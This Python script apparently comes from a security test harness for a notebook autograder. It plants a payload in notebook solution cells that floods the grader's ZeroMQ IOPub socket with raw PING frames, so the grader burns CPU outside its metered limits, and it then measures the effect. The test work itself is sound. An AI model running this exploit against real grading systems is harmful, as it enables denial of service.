"""a01: re-attack of round 19/20's fix (the grader's CPU for checking, receiving and decoding one notebook's kernel
messages is capped at 5 s and 20,000 messages; a message is received part by part, at most 64 parts). All of that is
counted on the grader's reading thread, for *messages*. ZeroMQ's own I/O thread in the grading process (libzmq 4.3,
ZMTP 3.1) also answers every PING *command* it reads on any of its connections to the kernel with a PONG, written at
once (one send syscall per PING, see stream_engine_base_t::process_heartbeat_message -> out_event). A command is never
a message: nothing reaches the reading thread, nothing is counted. The kernel finds its end of the grader's IOPub
connection (an accepted Unix socket named like its iopub endpoint) and writes PING commands onto it, 9 bytes each,
for DUR s in one solution cell. The script samples the CPU of the grading user's processes on the grader side (host
PID namespace) and in sandboxes, for a baseline of two honest students and for aa_honest, m1, zz_honest."""
import os, sys, time, threading
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from u21 import *

A = "ps1_memory"
DUR = float(os.environ.get("DUR", "100"))
CHUNK = int(os.environ.get("CHUNK", "100000"))

PAYLOAD = f'''
def __ping(dur={DUR}, chunk={CHUNK}):
    import os, socket, select, time, struct
    seen = []
    from ipykernel.kernelapp import IPKernelApp
    app = IPKernelApp.instance()
    targets = ["%s-%s" % (app.ip, p) for p in (app.iopub_port, app.shell_port, app.control_port)]
    fds = []
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if not os.readlink("/proc/self/fd/%d" % fd).startswith("socket:"):
                continue
            s = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        try:
            if s.family == socket.AF_UNIX and s.getsockname() in targets:
                try:
                    s.getpeername()
                    pid, uid, gid = struct.unpack("3i", s.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
                    seen.append((fd, s.getsockname()[-5:], pid))
                    # the kernel is connected to some of its own sockets (ipykernel's shell thread): skip those;
                    # only the grader's IOPub connection (its SUB socket), where the kernel's own libzmq writes
                    # nothing while this cell prints nothing
                    if pid != os.getpid() and s.getsockname() == targets[0]:
                        fds.append(fd)
                except OSError:
                    pass
        finally:
            s.close()
    found = len(fds)
    time.sleep(0.5)  # let the kernel's own libzmq finish writing execute_input / status before the raw writes
    ping = b"\\x04\\x07\\x04PING\\x00\\x00"   # ZMTP 3.1 command frame: PING, TTL 0, no context
    wire = ping * chunk
    t0, n = time.time(), 0
    left = dict((fd, memoryview(wire)) for fd in fds)
    while fds:
        _, ready, _ = select.select([], fds, [], 1)
        for fd in ready:
            try:
                left[fd] = left[fd][os.write(fd, left[fd]):]
            except BlockingIOError:
                pass
            if not left[fd]:  # whole frames only: never leave a partial PING before the kernel's next message
                n += 1
                left[fd] = memoryview(wire)
                if time.time() - t0 > dur:
                    fds = [f for f in fds if f != fd]
    return seen, found, n * chunk, time.process_time()
__r = __ping()
print("accepted connections (fd, endpoint, peer pid), flooded, PINGs written, kernel CPU s:", __r)
'''


CELLS = int(os.environ.get("CELLS", "1"))  # solution cells that each flood for DUR s (a01.long.out.txt: 4)
TAG = os.environ.get("TAG", "a01")


def hostile():
    def mutate(nb):
        done = 0
        for c in nb.cells:
            if c.cell_type == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution") and done < CELLS:
                c.source += "\n" + PAYLOAD
                done += 1
    return notebook(A, mutate=mutate)


def sampler(stop, acc):
    mine = os.readlink("/proc/self/ns/pid")
    while not stop.is_set():
        for p in os.listdir("/proc"):
            if not p.isdigit():
                continue
            try:
                if os.stat(f"/proc/{p}").st_uid != UID:
                    continue
                ns = os.readlink(f"/proc/{p}/ns/pid")
                f = open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()
                cpu = (int(f[11]) + int(f[12])) / os.sysconf("SC_CLK_TCK")
                cmd = open(f"/proc/{p}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")[:90]
            except OSError:
                continue
            if CLONE not in cmd and ns != mine:
                continue
            side = "grader" if ns == mine else "sandbox"
            acc[(p, side)] = (max(cpu, acc.get((p, side), (0, ""))[0]), cmd)
        time.sleep(0.5)


def run(tag, students):
    dest = course(tag, students)
    acc, stop = {}, threading.Event()
    th = threading.Thread(target=sampler, args=(stop, acc), daemon=True); th.start()
    t0 = time.time()
    p = grade(dest, env=CANARY_ENV)
    stop.set(); th.join()
    wall = time.time() - t0
    g = sum(v[0] for (pid, side), v in acc.items() if side == "grader")
    s = sum(v[0] for (pid, side), v in acc.items() if side == "sandbox")
    print(f"{tag}: wall {wall:.0f} s; CPU of the grading user's host-namespace processes (grader side) {g:.1f} s; "
          f"in sandboxes {s:.1f} s")
    for (pid, side), (cpu, cmd) in sorted(acc.items(), key=lambda kv: -kv[1][0])[:8]:
        print(f"   {side:7s} {cpu:7.1f} s  {cmd.replace(CLONE, '<clone>')}")
    out = p.stdout + p.stderr
    print(f"{tag}: canary in grader output:", "secret@localhost" in out or "AKIASECRETCANARY123" in out)
    report(dest)
    scores(dest)
    cell_outputs(dest, "m1", A, {"training_memory", "per_device_memory", "partition_layers", "split_model", "two_stage_step"})
    cleanup(dest)


if __name__ == "__main__":
    print(f"hostile: {CELLS} cell(s), each {DUR} s of ZMTP PING commands onto the grader's IOPub connection")
    if not os.environ.get("NOBASE"):
        run(TAG + "-base", {("aa_honest", A): honest(A), ("zz_honest", A): honest(A)})
    run(TAG, {("aa_honest", A): honest(A), ("m1", A): hostile(), ("zz_honest", A): honest(A)})
